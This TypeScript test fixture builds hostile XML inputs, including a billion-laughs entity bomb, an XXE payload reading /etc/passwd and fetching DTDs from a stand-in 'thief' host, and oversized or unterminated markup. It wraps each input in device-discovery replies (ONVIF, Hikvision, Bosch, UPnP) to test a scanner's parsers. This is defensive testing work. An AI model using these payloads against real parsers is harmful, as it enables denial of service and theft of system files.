/** An attack on XML parsers: a declaration before the document, and what takes the place of a text. */
export interface Poison {
  readonly name: string;
  readonly before: string;
  readonly inside: string;
}

const tenfold = 'abcdefghij'
  .split('')
  .map((name, at, all) => `<!ENTITY ${name} "${at === 0 ? 'ha' : `&${all[at - 1]};`.repeat(10)}">`)
  .join('');

/** Entity bombs (ten to the ninth), external entities, nesting, width; nothing may ever connect to `thief`. */
export function poisons(thief: string): readonly Poison[] {
  return [
    { name: 'entity bomb', before: `<!DOCTYPE x [${tenfold}]>`, inside: '&j;' },
    {
      name: 'entities from outside',
      before: `<!DOCTYPE x SYSTEM "http://${thief}/x.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY u SYSTEM "http://${thief}/u"><!ENTITY % p SYSTEM "http://${thief}/p">%p;]>`,
      inside: '&f;&u;',
    },
    {
      name: 'one long entity, often',
      before: `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(20_000)}">]>`,
      inside: '&a;'.repeat(9_000),
    },
    { name: 'deep nesting', before: '', inside: '<a>'.repeat(18_000) },
    { name: 'deep nesting that closes', before: '', inside: `${'<a>'.repeat(8_000)}${'</a>'.repeat(8_000)}` },
    { name: 'as wide as there is room', before: '', inside: '<a/>'.repeat(15_000) },
    { name: 'attributes without end', before: '', inside: `<a ${'b="c" '.repeat(10_000)}/>` },
    { name: 'character references', before: '', inside: '&#27;&#x202e;&#0;&#xD800;&#x110000;'.repeat(1_500) },
    { name: 'comments that do not end', before: '', inside: '<!--'.repeat(15_000) },
    { name: 'CDATA that does not end', before: '', inside: '<![CDATA['.repeat(6_000) },
  ];
}

const declaration = '<?xml version="1.0" encoding="UTF-8"?>';
const soap = 'http://www.w3.org/2003/05/soap-envelope';

/** Every XML document that a scanner reads, with the poison in each of its texts, by protocol. */
export function documents({ before, inside }: Pick<Poison, 'before' | 'inside'>, address: string) {
  const envelope = (body: string) =>
    `${declaration}${before}<s:Envelope xmlns:s="${soap}"><s:Body>${body}</s:Body></s:Envelope>`;
  const element = (name: string, text = inside) => `<${name}>${text}</${name}>`;
  // A large poison goes into the first text only, so that a datagram or a reply still holds all of it.
  const fill = (...names: string[]) =>
    names.map((name, at) => element(name, at > 0 && inside.length > 1_000 ? 'x' : inside)).join('');
  const isapi = 'xmlns="http://www.hikvision.com/ver20/XMLSchema"';
  return {
    wsDiscovery: envelope(
      `<d:ProbeMatches xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><d:ProbeMatch>${element('d:Types', 'dn:NetworkVideoTransmitter')}${fill('d:Scopes')}${element('d:XAddrs', `http://${address}/onvif/device_service`)}</d:ProbeMatch></d:ProbeMatches>`,
    ),
    sadp: `${declaration}${before}<ProbeMatch>${element('Types', 'inquiry')}${fill('DeviceDescription', 'DeviceSN', 'SoftwareVersion', 'MAC')}</ProbeMatch>`,
    bosch: `${declaration}${before}<root><device>${element('physAddress', '00-07-5f-01-02-03')}${fill('unitIPAddress', 'friendlyName', 'serialNumber')}</device></root>`,
    onvif: envelope(
      `<GetSystemDateAndTimeResponse>${fill('UTCDateTime')}</GetSystemDateAndTimeResponse><GetScopesResponse>${fill('ScopeItem')}</GetScopesResponse><GetDeviceInformationResponse>${fill('Manufacturer', 'Model', 'SerialNumber', 'FirmwareVersion')}</GetDeviceInformationResponse>`,
    ),
    isapi: `${declaration}${before}<DeviceInfo ${isapi}>${fill('deviceName', 'model', 'serialNumber', 'macAddress')}</DeviceInfo>`,
    activateStatus: `${declaration}${before}<ActivateStatus ${isapi}>${fill('Activated')}</ActivateStatus>`,
    upnp: `${declaration}${before}<root><device>${fill('manufacturer', 'modelName', 'modelNumber', 'friendlyName', 'serialNumber')}</device></root>`,
  };
}
